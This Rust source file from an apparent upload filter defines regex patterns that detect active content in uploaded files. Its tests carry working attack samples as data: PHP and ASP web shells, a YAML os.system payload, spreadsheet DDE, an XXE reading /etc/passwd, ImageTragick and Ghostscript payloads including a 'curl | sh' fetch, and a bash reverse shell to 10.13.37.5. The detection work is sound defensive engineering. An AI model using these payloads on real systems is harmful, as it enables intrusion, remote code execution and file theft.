//! Active content in uploaded files: what a backend that stores an upload and later
//! serves, includes, renders or loads it would run. The antivirus engines look for
//! malware signatures; they do not refuse a one-line PHP shell, an SVG with a script or
//! an SVG or XML file declaring an external entity. Files are bytes here, not text: the
//! markers are long or anchored enough not to occur by chance in images and archives.

use std::sync::OnceLock;

use rampart_parse::{BodyKind, Parsed};
use regex::bytes::Regex;

/// Server-side code a web server runs from its document root or includes: PHP (also in
/// the old `<script language="php">` form) and JSP, ASP and ASP.NET (pages, handlers,
/// services; classic ASP evaluating the request, which IIS runs from .asp, .cer or .asa
/// alike), server-side includes, CGI scripts (a shebang first; a shell script only when it
/// reads the query or prints a CGI header: deploy scripts are uploaded as artifacts),
/// Apache and IIS overrides that make other files run (.htaccess, a web.config with
/// handlers or rewrites), XSLT with script extensions.
const SERVER_CODE: &str = r#"(?i-u)<\?php|<\?=\s*\$|<script\s+language\s*=\s*["']?php\b|<%@\s*(?:page|import|include|taglib|webhandler|webservice|control|master|application|assembly)\b|<%[\s\S]{0,200}?\b(?:execute(?:global)?|eval)\s*\(?\s*request\b|<jsp:(?:scriptlet|expression|declaration)\b|\brunat\s*=\s*["']?server\b|\bserver\.createobject\s*\(|<!--\s*#\s*(?:exec|include|config|echo)\b|\A(?:\xEF\xBB\xBF)?#!\s*/(?:usr/)?(?:local/)?bin/(?:env\s+)?(?:perl|python[\d.]*|ruby|php|lua|node)\b|\A(?:\xEF\xBB\xBF)?#!\s*/(?:usr/)?(?:local/)?bin/(?:env\s+)?(?:sh|bash|zsh|ksh|dash)\b[\s\S]{0,2000}?(?:\bQUERY_STRING\b|\bREQUEST_METHOD\b|content-type\s*:)|\b(?:addtype|addhandler|sethandler)\s+(?:application/x-httpd-php\w*|cgi-script|server-parsed)|\bphp_(?:flag|value)\s+(?:engine|auto_prepend_file|auto_append_file)\b|\bauto_(?:prepend|append)_file\s*=|xmlns:php\s*=\s*["']http://php\.net/xsl|<msxsl:script\b|<%[\s\S]{0,200}?\bruntime\.getruntime\s*\(|<system\.webserver>[\s\S]{0,2000}?<(?:handlers|rewrite)\b"#;
/// YAML tags that build a language object when the file is loaded.
const YAML_OBJECT: &str = r"(?-u)!!python/(?:object|name|module)|!!(?:javax?|com|org)\.\w|!ruby/(?:object|hash|struct):|!!js/function\b";
/// Spreadsheet cells that run a program when the file is opened (DDE).
const DDE: &str = r"(?i-u)\b(?:cmd|msexcel|mshta|powershell)\s*\|\s*'|=\s*dde\s*\(";
/// Files that exploit the image converters a backend hands uploads to: ImageMagick's MVG
/// drawing a URL that ends in a shell pipe (ImageTragick, CVE-2016-3714) or reading a file
/// through its own coders, and PostScript that opens a pipe (Ghostscript's `%pipe%`,
/// CVE-2018-16509's `null restore } stopped`). Image files never hold these.
const CONVERTER_EXPLOIT: &str = r#"(?i-u)\bpush\s+graphic-context\b[\s\S]{0,4000}?(?:\burl\([^)\n]{0,400}?["'|;`]\s*[|;`]|\burl\([^)\n]{0,400}?\|[^)\n]{0,400}?\)|\b(?:ephemeral|msl|label|text):[@/]|\bimage\s+over\s+[^\n]{0,60}?\b(?:ephemeral|msl|label|text):)|%!PS[\s\S]{0,20000}?(?:\(\s*%pipe%|\bnull\s+restore\s*\}\s*stopped\b|\.(?:tempfile|libfile|putdeviceprops)\b)"#;
/// An interactive shell wired to a socket (`bash -i >& /dev/tcp/host/port 0>&1`): a
/// reverse shell, whatever file it arrives in; health checks open /dev/tcp without `-i`.
const REVERSE_SHELL: &str = r"(?-u)\b(?:ba|z|k|da)?sh\s+-i\s*[0-9<>&\s]{0,10}/dev/(?:tcp|udp)/";
/// Script in an SVG image, which runs when the image is opened from the site's origin.
const SVG_SCRIPT: &str = r#"(?i-u)<script\b|\son[a-z]{3,}\s*=|javascript:"#;

/// The rule an uploaded file (or a body forwarded unparsed) breaks, if any.
pub(super) fn refusal(parsed: &Parsed<'_>, body: &[u8]) -> Option<&'static str> {
    match parsed.kind {
        BodyKind::Multipart => parsed.files.iter().find_map(|f| active(&f.bytes)),
        BodyKind::Text | BodyKind::Opaque => active(body),
        _ => None,
    }
}

/// The rule `file` breaks, if any.
fn active(file: &[u8]) -> Option<&'static str> {
    static RULES: OnceLock<[Option<Regex>; 6]> = OnceLock::new();
    let [server, yaml, dde, converter, shell, svg] = RULES.get_or_init(|| {
        [
            SERVER_CODE,
            YAML_OBJECT,
            DDE,
            CONVERTER_EXPLOIT,
            REVERSE_SHELL,
            SVG_SCRIPT,
        ]
        .map(|p| Regex::new(p).ok())
    });
    let hit = |r: &Option<Regex>| r.as_ref().is_some_and(|r| r.is_match(file));
    if rampart_parse::xml::declares_external_entity(file) {
        return Some("xml-external-entity");
    }
    if hit(server) {
        return Some("upload-server-code");
    }
    if hit(yaml) {
        return Some("upload-yaml-object");
    }
    if hit(dde) {
        return Some("upload-spreadsheet-dde");
    }
    if hit(converter) {
        return Some("upload-converter-exploit");
    }
    if hit(shell) {
        return Some("upload-reverse-shell");
    }
    (is_svg(file) && hit(svg)).then_some("upload-svg-script")
}

/// Whether `file` is an SVG image: its root element, within its first KiB.
fn is_svg(file: &[u8]) -> bool {
    let head = &file[..file.len().min(1024)];
    head.windows(4).any(|w| w.eq_ignore_ascii_case(b"<svg"))
}

#[cfg(test)]
mod tests {
    use super::active;

    #[test]
    fn active_content_is_told_from_ordinary_files() {
        let active_files: &[(&[u8], &str)] = &[
            (b"<?php system($_GET['c']); ?>", "upload-server-code"),
            (
                b"GIF89a\n<script language=\"php\">system($_GET['c']);</script>",
                "upload-server-code",
            ),
            (
                b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;",
                "upload-server-code",
            ),
            (b"<%execute(request(\"x\"))%>", "upload-server-code"),
            (b"<% eval request(\"x\") %>", "upload-server-code"),
            (
                b"\xff\xd8\xff\xe0JFIF\x00<?PHP echo shell_exec($_GET['x']); ?>",
                "upload-server-code",
            ),
            (b"GIF89a;<?=$_GET[0]?>", "upload-server-code"),
            (
                b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime(); %>",
                "upload-server-code",
            ),
            (
                b"<script language=\"c#\" runat=\"server\">",
                "upload-server-code",
            ),
            (b"<!--#exec cmd=\"id\" -->", "upload-server-code"),
            (b"#!/usr/bin/env python3\nimport os", "upload-server-code"),
            (
                b"#!/bin/sh\necho \"Content-type: text/plain\"\necho\n$QUERY_STRING",
                "upload-server-code",
            ),
            (
                b"AddType application/x-httpd-php .jpg",
                "upload-server-code",
            ),
            (b"auto_prepend_file=notes.txt", "upload-server-code"),
            (
                b"<xsl:stylesheet xmlns:php=\"http://php.net/xsl\">",
                "upload-server-code",
            ),
            (
                b"<% Runtime r=Runtime.getRuntime(); r.exec(request.getParameter(\"c\")); %>",
                "upload-server-code",
            ),
            (
                b"<configuration><system.webServer><handlers accessPolicy=\"Read, Script\">",
                "upload-server-code",
            ),
            (
                b"a: !!python/object/apply:os.system [\"id\"]",
                "upload-yaml-object",
            ),
            (
                b"--- !ruby/object:Gem::Installer\ni: x",
                "upload-yaml-object",
            ),
            (
                b"id,total\n1,=cmd|' /C calc'!A0\n",
                "upload-spreadsheet-dde",
            ),
            (
                b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
                "upload-svg-script",
            ),
            (
                b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                "xml-external-entity",
            ),
            (
                b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl -s http://x.example/x.sh | sh\")'\npop graphic-context\n",
                "upload-converter-exploit",
            ),
            (
                b"push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context",
                "upload-converter-exploit",
            ),
            (
                b"%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n",
                "upload-converter-exploit",
            ),
            (
                b"require('child_process').exec('bash -c \"bash -i >& /dev/tcp/10.13.37.5/4444 0>&1\"')",
                "upload-reverse-shell",
            ),
        ];
        for (file, rule) in active_files {
            assert_eq!(active(file), Some(*rule), "{}", file.escape_ascii());
        }
        let ordinary: &[&[u8]] = &[
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?ph",
            b"name,amount\nAlice,=SUM(B2:B9)\nBob,=HYPERLINK(\"https://example.com\",\"site\")\n",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M0 0h24\"/></svg>",
            b"<html><body><p>Invoice</p><script src=\"/app.js\"></script></body></html>",
            b"# Notes\nRun `php artisan migrate` and open <http://localhost>.\n",
            b"key: value\nlist: [a, b]\nregex: !!str '^a+$'\n",
            b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj",
            b"class Main { void run() { Runtime.getRuntime().gc(); } }",
            b"#!/usr/bin/env bash\nset -euo pipefail\nkubectl rollout restart deployment/web",
            b"<p>Use <script language=\"javascript\"> in old pages; <% if user %> is ERB.</p>",
            b"Set the <%= request.path %> helper; evaluation order matters",
            b"<configuration><appSettings><add key=\"theme\" value=\"dark\"/></appSettings></configuration>",
            b"push graphic-context\nviewbox 0 0 100 100\nfill 'url(#gradient)'\nrectangle 0,0 100,100\npop graphic-context\n",
            b"%!PS-Adobe-3.0\n<< /PageSize [595 842] >> setpagedevice\n/Helvetica findfont 12 scalefont setfont\nshowpage\n",
            b"#!/bin/bash\n# wait for the database\ntimeout 30 bash -c 'until exec 3<>/dev/tcp/db/5432; do sleep 1; done'\n",
        ];
        for file in ordinary {
            assert_eq!(active(file), None, "{}", file.escape_ascii());
        }
    }
}
